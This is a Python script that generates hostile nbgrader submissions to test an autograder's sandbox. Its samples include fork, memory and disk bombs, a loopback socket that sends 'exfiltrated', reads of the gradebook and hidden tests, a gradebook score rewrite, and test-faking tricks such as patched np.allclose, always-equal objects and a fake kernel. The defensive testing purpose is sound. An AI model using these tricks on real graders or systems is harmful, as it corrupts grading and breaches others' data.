"""Generate a tiny nbgrader course and a batch of hostile or broken submissions to it.

The assignment ``tiny`` has three autograded parts (4 points): ``add`` (1 point), ``mean`` (2),
``square_list`` (1), each with a visible and a hidden test and no TensorFlow, so kernels start
fast. Every submission below is the correct solution plus ONE attack or defect, and states the
score each test cell must get. Files the attacks go after (the source notebook, the gradebook,
another student's submission) are named by absolute path: a sandbox that let them through would
show up as a wrong score.

Use: ``python tests/bad_submissions/generate.py COURSE_DIR`` (or import :func:`build_course`).
"""
from __future__ import annotations

import json
import os
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

ASSIGNMENT = "tiny"
FULL = {"test_add": 1.0, "test_mean": 2.0, "test_square": 1.0}
MARKER = "grading-suite-detached-child"

ANSWERS = {
    "answer_add": "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION\n",
    "answer_mean": ("def mean(values):\n    ### BEGIN SOLUTION\n    return float(np.mean(values))\n"
                    "    ### END SOLUTION\n"),
    "answer_square": ("def square_list(n):\n    ### BEGIN SOLUTION\n    return [i * i for i in range(n)]\n"
                      "    ### END SOLUTION\n"),
}
TESTS = {
    "test_add": ("assert add(2, 3) == 5, 'add(2, 3) should be 5'\n"
                 "### BEGIN HIDDEN TESTS\nassert add(-7, 7) == 0\n### END HIDDEN TESTS\n"),
    "test_mean": ("assert np.allclose(mean([1, 2, 3]), 2.0)\n"
                  "### BEGIN HIDDEN TESTS\nassert np.allclose(mean([0, 10]), 5.0)\n"
                  "### END HIDDEN TESTS\n"),
    "test_square": ("assert square_list(4) == [0, 1, 4, 9]\n"
                    "### BEGIN HIDDEN TESTS\nassert square_list(0) == []\n### END HIDDEN TESTS\n"),
}
POINTS = {"test_add": 1, "test_mean": 2, "test_square": 1}
ORDER = ["answer_add", "test_add", "answer_mean", "test_mean", "answer_square", "test_square"]


def _meta(grade_id: str) -> dict:
    if grade_id.startswith("answer"):
        nbg = {"grade": False, "solution": True, "locked": False}
    else:
        nbg = {"grade": True, "solution": False, "locked": True, "points": POINTS[grade_id]}
    return {"nbgrader": {**nbg, "grade_id": grade_id, "schema_version": 3}}


def source_notebook() -> nbformat.NotebookNode:
    cells = [new_markdown_cell("# Tiny assignment\nThree small functions."),
             new_code_cell("import numpy as np")]
    for grade_id in ORDER:
        src = ANSWERS.get(grade_id) or TESTS[grade_id]
        cells.append(new_code_cell(src, metadata=_meta(grade_id)))
    nb = new_notebook(cells=cells)
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3",
                                 "language": "python"}
    return nb


def _solved(src: str) -> str:
    """The answer as a student would write it: the solution without nbgrader's markers."""
    return "".join(line + "\n" for line in src.splitlines() if "### " not in line)


SOLVED = {grade_id: _solved(src) for grade_id, src in ANSWERS.items()}


@dataclass
class Case:
    """One submission: how it differs from the correct one, and the score each test must get."""

    name: str
    why: str
    expected: dict
    answers: dict = field(default_factory=dict)  # grade_id -> replacement answer source
    extra_cells: list = field(default_factory=list)  # (after grade_id, source)
    mutate: object = None  # function(nb dict) -> None, applied last
    raw: bytes | None = None  # the file's bytes, when it is not a notebook at all
    needs: str = ""  # "cgroups" when the expected outcome relies on a cgroup
    files: dict = field(default_factory=dict)  # extra files submitted next to the notebook


def cases(paths: dict) -> list[Case]:
    """Every submission of the suite. ``paths`` names files the attacks try to reach."""
    wrong_mean = "def mean(values):\n    return 0.0\n"
    probe_files = json.dumps([paths["source_notebook"], paths["gradebook"],
                              paths["other_submission"], paths["course_dir"]])
    read_attempt = (
        "import os\nfound = []\n"
        f"for target in {probe_files}:\n"
        "    try:\n"
        "        if os.path.isdir(target):\n"
        "            os.listdir(target)\n"
        "        else:\n"
        "            open(target, 'rb').read(64)\n"
        "        found.append(target)\n"
        "    except OSError as exc:\n"
        "        print('blocked:', target, type(exc).__name__)\n"
        "print('readable:', found)\n"
        "if found:\n"
        "    def add(a, b):\n        return 'LEAKED ' + ' '.join(found)\n")
    hidden_attempt = (
        "import glob, os\nleaked = []\n"
        f"for pattern in ['{paths['course_dir']}/**/*.ipynb', '/work/**/source/**/*.ipynb',"
        " '/**/gradebook.db']:\n"
        "    for hit in glob.glob(pattern, recursive=True)[:50]:\n"
        "        try:\n"
        "            if 'HIDDEN TESTS' in open(hit, errors='ignore').read() or hit.endswith('.db'):\n"
        "                leaked.append(hit)\n"
        "        except OSError:\n"
        "            pass\n"
        "print('hidden tests found in:', leaked)\n"
        "if leaked:\n"
        "    def square_list(n):\n        return leaked\n")
    return [
        Case("correct", "control: the solution", FULL),
        Case("own_module", "control: add() imported from a module submitted next to the notebook",
             FULL, answers={"answer_add": "from my_helpers import add\n"},
             files={"my_helpers.py": "def add(a, b):\n    return a + b\n"}),
        Case("untouched", "the release as handed out (NotImplementedError everywhere)",
             {k: 0.0 for k in FULL}, mutate=lambda nb: None),
        Case("raises", "add raises an exception", {**FULL, "test_add": 0.0},
             answers={"answer_add": "def add(a, b):\n    raise ValueError('student bug')\n"}),
        Case("infinite_loop", "mean never returns (honours the interrupt)",
             {**FULL, "test_mean": 0.0},
             answers={"answer_mean": "def mean(values):\n    while True:\n        pass\n"}),
        Case("ignores_sigint", "mean loops with SIGINT ignored: the kernel must be stopped, and "
             "the later test cannot run", {**FULL, "test_mean": 0.0, "test_square": 0.0},
             answers={"answer_mean": "import signal\ndef mean(values):\n"
                      "    signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                      "    while True:\n        pass\n"}),
        Case("os_exit", "square_list calls os._exit: the kernel vanishes mid-test",
             {**FULL, "test_square": 0.0},
             answers={"answer_square": "import os\ndef square_list(n):\n    os._exit(3)\n"}),
        Case("segfault", "the mean answer cell dereferences NULL",
             {**FULL, "test_mean": 0.0, "test_square": 0.0},
             answers={"answer_mean": SOLVED["answer_mean"] + "import ctypes\nctypes.string_at(0)\n"}),
        Case("memory_bomb", "the square answer cell allocates until killed",
             {**FULL, "test_square": 0.0}, needs="cgroups",
             answers={"answer_square": SOLVED["answer_square"] +
                      "hoard = []\nwhile True:\n    hoard.append(bytearray(64 * 2**20))\n"}),
        Case("fork_bomb", "a last, ungraded cell forks until the process limit", FULL,
             needs="cgroups",
             extra_cells=[("test_square", "import os\nwhile True:\n    os.fork()\n")]),
        Case("disk_filler", "writes 50 MB files next to the notebook until the disk is full",
             FULL, extra_cells=[("answer_square",
                                 "i = 0\nwhile True:\n"
                                 "    with open(f'filler{i}.bin', 'wb') as f:\n"
                                 "        f.write(b'x' * 50 * 2**20)\n    i += 1\n")]),
        Case("detached_child", "starts a process in a new session that would outlive grading",
             FULL, extra_cells=[("answer_add",
                                 "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
                                 f"'import time; time.sleep(600)  # {MARKER}'], "
                                 "start_new_session=True, stdout=subprocess.DEVNULL, "
                                 "stderr=subprocess.DEVNULL)\n")]),
        Case("network", "connects to a server on the grader's loopback and would send data",
             FULL, extra_cells=[("answer_add",
                                 "import socket\ntry:\n"
                                 f"    s = socket.create_connection(('127.0.0.1', {paths['port']}), timeout=3)\n"
                                 "    s.sendall(b'exfiltrated')\n"
                                 "    def add(a, b):\n        return 'network reached'\n"
                                 "except OSError as exc:\n    print('no network:', exc)\n")]),
        Case("read_source", "reads the source notebook, the gradebook, another submission and "
             "lists the course directory", FULL, extra_cells=[("answer_add", read_attempt)]),
        Case("read_hidden_tests", "searches the file system for notebooks with hidden tests",
             FULL, extra_cells=[("answer_square", hidden_attempt)]),
        Case("write_gradebook", "opens the gradebook with sqlite3 and gives everyone 100",
             FULL, extra_cells=[("answer_add",
                                 "import sqlite3\ntry:\n"
                                 f"    db = sqlite3.connect({paths['gradebook']!r})\n"
                                 "    db.execute('UPDATE grade SET manual_score = 100')\n"
                                 "    db.commit()\n"
                                 "    def add(a, b):\n        return 'gradebook reached'\n"
                                 "except Exception as exc:\n    print('no gradebook:', exc)\n")]),
        Case("symlink_escape", "submits a symlink to the gradebook next to the notebook",
             FULL, extra_cells=[("answer_add",
                                 "try:\n    open('gradebook_link.db', 'rb').read(16)\n"
                                 "    def add(a, b):\n        return 'symlink followed'\n"
                                 "except OSError as exc:\n    print('no link:', exc)\n")]),
        Case("shadow_numpy", "wrong mean, and a numpy.py submitted next to the notebook whose "
             "allclose always says yes", {**FULL, "test_mean": 0.0},
             answers={"answer_mean": wrong_mean},
             files={"numpy.py": "def allclose(*args, **kwargs):\n    return True\n"
                                "def mean(values):\n    return 0.0\n"}),
        Case("fake_kernel", "ships an ipykernel_launcher.py that would start a kernel answering "
             "'ok' to everything (the wrong answers would then pass)", {k: 0.0 for k in FULL},
             answers={"answer_add": "def add(a, b):\n    return 0\n",
                      "answer_mean": wrong_mean,
                      "answer_square": "def square_list(n):\n    return []\n"},
             files={"ipykernel_launcher.py": (
                 "from ipykernel.ipkernel import IPythonKernel\n"
                 "async def do_execute(self, code, silent, store_history=True, user_expressions=None,"
                 " allow_stdin=False, **kwargs):\n"
                 "    return {'status': 'ok', 'execution_count': 1, 'payload': [],"
                 " 'user_expressions': {}}\n"
                 "IPythonKernel.do_execute = do_execute\n"
                 "from ipykernel import kernelapp\nkernelapp.launch_new_instance()\n")}),
        Case("delete_test_cell", "wrong mean, and the mean test cell deleted",
             {**FULL, "test_mean": 0.0}, answers={"answer_mean": wrong_mean},
             mutate=lambda nb: _drop_cell(nb, "test_mean")),
        Case("edit_test_cell", "wrong mean, and the mean test cell's code replaced by 'pass'",
             {**FULL, "test_mean": 0.0}, answers={"answer_mean": wrong_mean},
             mutate=lambda nb: _set_source(nb, "test_mean", "pass\n")),
        Case("strip_test_metadata", "wrong mean, the mean test cell emptied and its nbgrader "
             "metadata removed", {**FULL, "test_mean": 0.0}, answers={"answer_mean": wrong_mean},
             mutate=lambda nb: _strip_meta(nb, "test_mean")),
        Case("unlock_test_cell", "wrong mean; the test cell marked unlocked and given 5 points, "
             "then edited", {**FULL, "test_mean": 0.0}, answers={"answer_mean": wrong_mean},
             mutate=lambda nb: _unlock_and_edit(nb, "test_mean")),
        Case("invalid_json", "the file is cut off half way", {k: 0.0 for k in FULL},
             raw=b'{"cells": [{"cell_type": "code", "source": "def add(a, b'),
        Case("wrong_format_version", "a notebook claiming nbformat 5", {k: 0.0 for k in FULL},
             mutate=lambda nb: nb.update(nbformat=5)),
        Case("huge_output", "prints 200,000 lines, then answers correctly", FULL,
             extra_cells=[("answer_add", "for i in range(200_000):\n    print('line', i)\n")]),
        Case("patch_showtraceback", "wrong add, with IPython's error display silenced",
             {**FULL, "test_add": 0.0},
             answers={"answer_add": "def add(a, b):\n    return 0\n"
                      "ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\n"
                      "ip._showtraceback = lambda *a, **k: None\n"
                      "type(ip).showtraceback = lambda *a, **k: None\n"}),
        Case("patch_displayhook", "wrong square_list that fakes a partial-credit result through "
             "the display hook, and replaces the hook", {**FULL, "test_square": 0.0},
             answers={"answer_square": "import sys\nip = get_ipython()\n"
                      "def square_list(n):\n    ip.displayhook(1.0)\n    return []\n"
                      "class Hook:\n    def __call__(self, value):\n        pass\n"
                      "sys.displayhook = Hook()\n"}),
        Case("redefine_allclose", "wrong mean, and np.allclose made to always say yes",
             {**FULL, "test_mean": 0.0},
             answers={"answer_mean": wrong_mean + "np.allclose = lambda *args, **kwargs: True\n"}),
        Case("racing_thread", "wrong mean; a background thread keeps planting an np.allclose "
             "that says yes once and then removes itself: no later test can be trusted",
             {**FULL, "test_mean": 0.0, "test_square": 0.0},
             answers={"answer_mean": wrong_mean +
                      "import threading, time\n_real = np.allclose\n"
                      "def _fake(*args, **kwargs):\n    np.allclose = _real\n    return True\n"
                      "def _plant():\n    while True:\n        np.allclose = _fake\n"
                      "        time.sleep(0.001)\n"
                      "threading.Thread(target=_plant, daemon=True).start()\n"}),
        Case("replace_guard", "correct answers, but the grader's integrity guard is swapped for "
             "one that always reports 'clean': the next test cannot be trusted and fails",
             {**FULL, "test_square": 0.0},
             extra_cells=[("answer_square",
                           "import sys\n_g = sys.modules.get('_grading_guard')\n"
                           "if _g is not None:\n"
                           "    _g.check = lambda phase: {'phase': phase, 'changed': [], 'foreign': []}\n")]),
        Case("fake_guard_report", "wrong mean with np.allclose patched, and IPython's text "
             "formatter rigged so the guard's answer always reads 'clean'", {**FULL, "test_mean": 0.0},
             answers={"answer_mean": wrong_mean + "np.allclose = lambda *args, **kwargs: True\n"
                      "import json\nclean = '{\"phase\": \"after\", \"changed\": [], \"foreign\": []}'\n"
                      "get_ipython().display_formatter.formatters['text/plain'].for_type("
                      "str, lambda obj, p, cycle: p.text(repr(clean)))\n"}),
        Case("always_equal", "square_list returns an object whose == is always true",
             {**FULL, "test_square": 0.0},
             answers={"answer_square": "class Anything:\n    def __eq__(self, other):\n"
                      "        return True\n\ndef square_list(n):\n    return Anything()\n"}),
        Case("tensorflow_noise", "correct, but TensorFlow is imported and add() floods stderr "
             "like TensorFlow's C++ logging", FULL,
             extra_cells=[("answer_add",
                           "import os, sys\nos.environ['TF_CPP_MIN_LOG_LEVEL'] = '0'\n"
                           "import tensorflow as tf\n_ = tf.constant([1.0]) * 2\n"
                           "_plain_add = add\n"
                           "def add(a, b):\n"
                           "    for i in range(200):\n"
                           "        os.write(2, b'I0000 00:00:1 cpu_feature_guard.cc:210] "
                           "This TensorFlow binary is optimized...\\n')\n"
                           "    print('W tensorflow warning', file=sys.stderr)\n"
                           "    return _plain_add(a, b)\n")]),
    ]


def _find(nb: dict, grade_id: str) -> int:
    for i, cell in enumerate(nb["cells"]):
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            return i
    raise KeyError(grade_id)


def _drop_cell(nb, grade_id):
    del nb["cells"][_find(nb, grade_id)]


def _set_source(nb, grade_id, source):
    nb["cells"][_find(nb, grade_id)]["source"] = source


def _strip_meta(nb, grade_id):
    cell = nb["cells"][_find(nb, grade_id)]
    cell["metadata"] = {}
    cell["source"] = "print('no test here')\n"


def _unlock_and_edit(nb, grade_id):
    cell = nb["cells"][_find(nb, grade_id)]
    cell["metadata"]["nbgrader"]["locked"] = False
    cell["metadata"]["nbgrader"]["points"] = 5
    cell["source"] = "assert True\n"


def build_course(course_dir: Path, port: int, only: list[str] | None = None) -> dict:
    """Write the course, generate the release with nbgrader, and submit every case.

    Returns {student: Case}. ``port``: where the network attack tries to connect.
    """
    course_dir = Path(course_dir).resolve()
    (course_dir / "source" / ASSIGNMENT).mkdir(parents=True, exist_ok=True)
    (course_dir / "nbgrader_config.py").write_text(
        "c = get_config()\nc.CourseDirectory.course_id = 'safety-suite'\n"
        "c.Execute.timeout = 10\n"
        "c.ClearSolutions.code_stub = {'python': 'raise NotImplementedError()'}\n")
    nbformat.write(source_notebook(), course_dir / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    subprocess.run([sys.executable, "-m", "nbgrader", "generate_assignment", ASSIGNMENT,
                    "--force", "--log-level=ERROR"], cwd=course_dir, check=True,
                   env={**os.environ, "PATH": os.pathsep.join([os.path.dirname(sys.executable),
                                                               os.environ.get("PATH", "")])})
    release = json.loads((course_dir / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_text())
    paths = {"course_dir": str(course_dir),
             "source_notebook": str(course_dir / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"),
             "gradebook": str(course_dir / "gradebook.db"),
             "other_submission": str(course_dir / "submitted" / "correct" / ASSIGNMENT
                                     / f"{ASSIGNMENT}.ipynb"),
             "port": port}
    chosen = {c.name: c for c in cases(paths) if only is None or c.name in only}
    for case in chosen.values():
        target = course_dir / "submitted" / case.name / ASSIGNMENT
        target.mkdir(parents=True, exist_ok=True)
        (target / "timestamp.txt").write_text("2026-01-01 12:00:00.000000 UTC")
        if case.name == "symlink_escape":
            link = target / "gradebook_link.db"
            if not link.is_symlink():
                link.symlink_to(paths["gradebook"])
        for name, text in case.files.items():
            (target / name).write_text(text)
        if case.raw is not None:
            (target / f"{ASSIGNMENT}.ipynb").write_bytes(case.raw)
            continue
        nb = json.loads(json.dumps(release))
        if case.name != "untouched":
            for grade_id, src in ANSWERS.items():
                _set_source(nb, grade_id, case.answers.get(grade_id, SOLVED[grade_id]))
            for after, src in reversed(case.extra_cells):
                nb["cells"].insert(_find(nb, after) + 1, {
                    "cell_type": "code", "execution_count": None, "id": f"extra-{len(nb['cells'])}",
                    "metadata": {}, "outputs": [], "source": src})
        if case.mutate is not None:
            case.mutate(nb)
        (target / f"{ASSIGNMENT}.ipynb").write_text(json.dumps(nb, indent=1))
    return chosen


if __name__ == "__main__":
    built = build_course(Path(sys.argv[1]), port=int(sys.argv[2]) if len(sys.argv) > 2 else 9)
    print(f"{len(built)} submissions in {sys.argv[1]}/submitted")
